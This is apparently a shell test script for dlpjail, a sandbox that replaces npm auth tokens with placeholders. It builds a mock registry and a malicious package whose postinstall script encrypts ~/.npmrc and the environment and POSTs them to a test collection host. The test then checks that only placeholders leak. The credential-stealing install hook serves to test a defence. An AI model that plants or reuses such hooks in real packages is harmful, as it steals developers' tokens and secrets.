#!/bin/sh
# 361-secretless-npm: the secretless jail end to end with npm (issue 15,
# "How it is shown"). The test registry (t/registry, HTTPS, names mapped in
# a private network namespace) serves @private/hello only for "Bearer
# TOKEN"; the token is in ~/.npmrc. Under dlpjail (npm profile, default
# policy, key path: node's hooked OpenSSL):
#  - npm install of the private package works, the registry logs the real
#    token, and `cat ~/.npmrc` inside the jail prints the placeholder;
#  - @private/evil's postinstall AES-256-GCM-encrypts ~/.npmrc and the
#    environment (node crypto, key in the script) and POSTs them to an
#    allowed host (--allow collect.allowed.test): the test decrypts what arrived and finds only
#    placeholders, never the real token.
. "$(dirname "$0")/lib.sh"
. "$top_srcdir/t/registry/lib-registry.sh"
. "$top_srcdir/t/tls/lib-tls.sh"
command -v node >/dev/null && command -v npm >/dev/null || skip "node/npm not installed"
reg_data --small
REG_EXTRA_HOSTS="collect.allowed.test=$REG_ADDR"    # the allowed host the loot goes to
reg_sandbox
TOKEN=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   # valid CRC32 base62 tail, made for this test
KEY=000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f

# pkg NAME FILE...: @private/NAME 1.0.0 in the overlay (packument + tarball)
pkg() {
	name=$1; src=$T/src/$name; shift
	mkdir -p "$src/package" "$T/overlay/npm/@private/$name/-"
	for f in "$@"; do cp "$f" "$src/package/"; done
	tgz=$T/overlay/npm/@private/$name/-/$name-1.0.0.tgz
	tar -C "$src" -czf "$tgz" package
	python3 - "$name" "$tgz" "$src/package/package.json" > "$T/overlay/npm/@private/$name/index.json" <<'PY'
import base64, hashlib, json, sys
name, tgz, pj = sys.argv[1:4]
b = open(tgz, "rb").read()
v = json.load(open(pj))
v["dist"] = {"tarball": "https://registry.npmjs.org/@private/%s/-/%s-1.0.0.tgz" % (name, name),
             "shasum": hashlib.sha1(b).hexdigest(),
             "integrity": "sha512-" + base64.b64encode(hashlib.sha512(b).digest()).decode()}
if "scripts" in v:
    v["hasInstallScript"] = True
print(json.dumps({"name": "@private/" + name, "dist-tags": {"latest": "1.0.0"},
                  "versions": {"1.0.0": v}}))
PY
}
mkdir -p "$T/files"
printf '{"name":"@private/hello","version":"1.0.0","main":"index.js"}\n' > "$T/files/package.json"
printf 'module.exports = "hello from a private package";\n' > "$T/files/index.js"
pkg hello "$T/files/package.json" "$T/files/index.js"
mkdir -p "$T/evil"
printf '{"name":"@private/evil","version":"1.0.0","scripts":{"postinstall":"node steal.js"}}\n' \
	> "$T/evil/package.json"
cat > "$T/evil/steal.js" <<JS
// encrypts what it can read with a key of its own: no detector sees through this
const fs = require("fs"), os = require("os"), https = require("https"), crypto = require("crypto");
const loot = JSON.stringify({ npmrc: fs.readFileSync(os.homedir() + "/.npmrc", "utf8"), env: process.env });
const iv = crypto.randomBytes(12), c = crypto.createCipheriv("aes-256-gcm", Buffer.from("$KEY", "hex"), iv);
const ct = Buffer.concat([c.update(loot), c.final()]);
const body = Buffer.concat([iv, c.getAuthTag(), ct]).toString("base64");
const rq = https.request("https://collect.allowed.test/-/collect", { method: "POST",
	headers: { "content-type": "text/plain", "content-length": body.length } }, r => { r.resume(); });
rq.on("error", () => {});
rq.end(body);
JS
pkg evil "$T/evil/package.json" "$T/evil/steal.js"
export REG_OVERLAY="$T/overlay" REG_PRIVATE="$TOKEN" REG_AUTH_LOG="$T/auth.log" REG_RECORD="$T/record.jsonl"
: > "$T/auth.log"
reg_start

mkdir -p "$T/proj"
printf '{"name":"t","version":"1.0.0","private":true,"dependencies":{"@private/hello":"1.0.0","@private/evil":"1.0.0"},"allowScripts":{"@private/evil":true}}\n' \
	> "$T/proj/package.json"
printf '//registry.npmjs.org/:_authToken=%s\n' "$TOKEN" >> "$HOME/.npmrc"
inside=$(timeout 30 "$DLPJAIL" --policy "$top_srcdir/policy/default.policy" -q -- cat "$HOME/.npmrc" 2>&1)
check "cat ~/.npmrc inside the jail prints a placeholder, not the token" \
	sh -c "printf '%s\n' '$inside' | grep -qE '_authToken=npm_[A-Za-z0-9]{36}' &&
	       ! printf '%s\n' '$inside' | grep -qF '$TOKEN'"
cp "$HOME/.npmrc" "$T/npmrc.before"
# a ~/.npmrc past 64 KiB (a long comment block above the token) is covered like a short one
mkdir -p "$T/bighome"
awk 'BEGIN { for (i = 0; i < 1200; i++) printf "; padding line %04d ............................................................\n", i }' \
	> "$T/bighome/.npmrc"
printf '//registry.npmjs.org/:_authToken=%s\n' "$TOKEN" >> "$T/bighome/.npmrc"
inside=$(HOME="$T/bighome" timeout 30 "$DLPJAIL" --policy "$top_srcdir/policy/default.policy" -q -- \
	tail -n 1 "$T/bighome/.npmrc" 2>&1)
check "a $(wc -c < "$T/bighome/.npmrc")-byte ~/.npmrc inside the jail holds a placeholder, not the token" \
	sh -c "printf '%s\n' '$inside' | grep -qE '_authToken=npm_[A-Za-z0-9]{36}' &&
	       ! printf '%s\n' '$inside' | grep -qF '$TOKEN'"

out=$(cd "$T/proj" && timeout -k 5 120 "$DLPJAIL" --policy "$top_srcdir/policy/default.policy" \
	--allow collect.allowed.test \
	--log "$T/events.jsonl" -- npm install --no-audit --no-fund --foreground-scripts 2>&1); rc=$?
check "npm install of the private package works under dlpjail (exit $rc)" test "$rc" -eq 0
check "... the package loads" sh -c "cd '$T/proj' && node -e 'console.log(require(\"@private/hello\"))' | grep -q hello"
check "the registry saw the real token for @private/hello" grep -qF "/@private%2fhello Bearer $TOKEN" "$T/auth.log"
check "the registry never saw another npm_ token" \
	sh -c "! grep -oE 'npm_[A-Za-z0-9]{36}' '$T/auth.log' | grep -qvxF '$TOKEN'"
check "the host's ~/.npmrc is unchanged" cmp -s "$HOME/.npmrc" "$T/npmrc.before"

# what the postinstall stole, decrypted with its own key
python3 - "$T/record.jsonl" "$KEY" > "$T/loot.txt" 2>&1 <<'PY'
import base64, json, sys
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
for line in open(sys.argv[1]):
    r = json.loads(line)
    raw = base64.b64decode(r["raw"])
    if b"/-/collect" not in raw.split(b"\r\n", 1)[0]:
        continue
    b = base64.b64decode(raw.rstrip().split(b"\n")[-1])   # the body: one base64 line
    print(AESGCM(bytes.fromhex(sys.argv[2])).decrypt(b[:12], b[28:] + b[12:28], None).decode())
PY
check "the postinstall's encrypted POST reached the allowed host and decrypts" grep -q '"npmrc"' "$T/loot.txt"
check "... it holds no real token" sh -c "! grep -qF '$TOKEN' '$T/loot.txt'"
check "... only placeholders of its shape" grep -qE 'npm_[A-Za-z0-9]{36}' "$T/loot.txt"
check "events never hold the token in clear" sh -c "! grep -qF '$TOKEN' '$T/events.jsonl'"
finish
